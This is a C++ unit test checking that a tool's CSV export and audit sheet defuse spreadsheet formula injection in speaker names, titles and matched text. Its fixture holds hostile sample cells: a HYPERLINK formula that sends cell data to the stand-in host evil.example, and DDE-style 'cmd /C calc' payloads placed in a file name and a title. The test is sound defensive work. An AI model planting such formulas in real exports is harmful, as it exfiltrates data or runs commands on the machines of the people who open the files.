// Issue 16.9: CSV formula injection. A speaker name, title or matched text that
// begins with '=', '+', '-', '@', TAB or CR must not become a live formula in the
// audit sheet or in `export --format csv`: such cells get a leading single quote
// and are quoted (OWASP). Numbers are not touched; JSON Lines keep the exact text.
#include <SQLiteCpp/SQLiteCpp.h>
#include <gtest/gtest.h>

#include <sstream>

#include "fixture.h"
#include "outputs/audit.h"
#include "outputs/export.h"

namespace normcode::testing {
namespace {

const char* kSpeaker = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

void WriteHostileDb(const std::string& path) {
  auto st = Store::Open(path);
  ASSERT_TRUE(st.ok()) << st.status().ToString();
  auto& store = *st;
  RunInfo info;
  info.program_version = "test";
  info.codebook_version = "cb-test";
  auto run = store->BeginRun(info);
  ASSERT_TRUE(run.ok());
  Document d;
  std::vector<Sentence> s;
  std::vector<Evidence> e;
  BuildDoc("corpus/=cmd|' /C calc'!A0.html", "S/PV.1", "2020-01-01", "@SUM(1+1)*cmd|' /C calc'!A0",
           {{kSpeaker, "+Brazil", "BRA", "-representative", false,
             {"-2+3 robust mandate now.", "\tTabbed robust mandate.", "@robust mandate first."}}},
           {{1, 1, "-2+3 robust", "determined_implementation", "asserted", "en.det.robust", ActorRef{}},
            {1, 2, "\tTabbed robust", "determined_implementation", "asserted", "en.det.robust", ActorRef{}},
            {1, 3, "@robust", "determined_implementation", "asserted", "en.det.robust", ActorRef{}}},
           &d, &s, &e);
  Status p = store->PutDocument(*run, d, s, e);
  ASSERT_TRUE(p.ok()) << p.ToString();
  ASSERT_TRUE(store->FinishRun(*run, RunCounts{}, "ok").ok());
  ASSERT_TRUE(store->Commit().ok());
}

// No parsed field may start like a formula ('=', '+', '-', '@', TAB, CR).
void ExpectNoFormula(const std::vector<CsvRecord>& rows, const std::string& what) {
  for (const auto& r : rows)
    for (const auto& f : r.fields)
      EXPECT_FALSE(!f.empty() && std::string("=+-@\t\r").find(f[0]) != std::string::npos)
          << what << " line " << r.line << ": " << f;
}

TEST(CsvInjection, FieldRule) {
  EXPECT_EQ(CsvTextField("=1+2"), "\"'=1+2\"");
  EXPECT_EQ(CsvTextField("+1"), "\"'+1\"");
  EXPECT_EQ(CsvTextField("-1"), "\"'-1\"");
  EXPECT_EQ(CsvTextField("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(CsvTextField("\tx"), "\"'\tx\"");
  EXPECT_EQ(CsvTextField("\rx"), "\"'\rx\"");
  EXPECT_EQ(CsvTextField("=\"a\""), "\"'=\"\"a\"\"\"");
  EXPECT_EQ(CsvTextField("plain"), "plain");
  EXPECT_EQ(CsvTextField("a=b"), "a=b");
  EXPECT_EQ(CsvTextField(""), "");
  EXPECT_EQ(CsvTextField("'=already"), "'=already");
}

TEST(CsvInjection, ExportAndAuditSheetNeutraliseFormulaCells) {
  TempDir dir;
  std::string db = dir.Path("h.db");
  ASSERT_NO_FATAL_FAILURE(WriteHostileDb(db));

  for (const char* what : {"evidence", "documents", "actors"}) {
    std::ostringstream out;
    Status st = ExportTable(db, what, "csv", ClassifyOptions{}, out);
    ASSERT_TRUE(st.ok()) << st.ToString();
    auto rows = ParseCsv(out.str());
    ASSERT_TRUE(rows.ok()) << rows.status().ToString();
    ASSERT_GT(rows->size(), 1u) << what;
    ExpectNoFormula(*rows, std::string("export ") + what);
  }
  std::ostringstream ev;
  ASSERT_TRUE(ExportTable(db, "evidence", "csv", ClassifyOptions{}, ev).ok());
  auto rows = ParseCsv(ev.str());
  ASSERT_TRUE(rows.ok());
  const auto& header = (*rows)[0].fields;
  auto col = [&](const std::string& n) {
    for (size_t i = 0; i < header.size(); ++i)
      if (header[i] == n) return i;
    ADD_FAILURE() << "no column " << n;
    return size_t{0};
  };
  EXPECT_EQ((*rows)[1].fields[col("speaker")], std::string("'") + kSpeaker);
  EXPECT_EQ((*rows)[1].fields[col("speaker_affiliation")], "'+Brazil");
  EXPECT_EQ((*rows)[1].fields[col("matched_text")], "'-2+3 robust");
  EXPECT_EQ((*rows)[1].fields[col("char_start")], "0");  // numbers as they are

  // JSON Lines keep the exact text.
  std::ostringstream jl;
  ASSERT_TRUE(ExportTable(db, "evidence", "jsonl", ClassifyOptions{}, jl).ok());
  EXPECT_NE(jl.str().find("\"speaker\":\"=HYPERLINK("), std::string::npos) << jl.str().substr(0, 400);

  AuditSampleOptions o;
  o.per_code = 10;
  std::ostringstream sheet;
  ASSERT_TRUE(AuditSample(db, o, sheet).ok());
  auto srows = ParseCsv(sheet.str());
  ASSERT_TRUE(srows.ok()) << srows.status().ToString();
  ASSERT_EQ(srows->size(), 4u);
  ExpectNoFormula(*srows, "audit sheet");
  bool speaker_seen = false;
  for (const auto& f : (*srows)[1].fields)
    if (f.rfind(std::string("'") + kSpeaker, 0) == 0) speaker_seen = true;
  EXPECT_TRUE(speaker_seen) << "the speaker cell keeps its text after the quote";
}

}  // namespace
}  // namespace normcode::testing
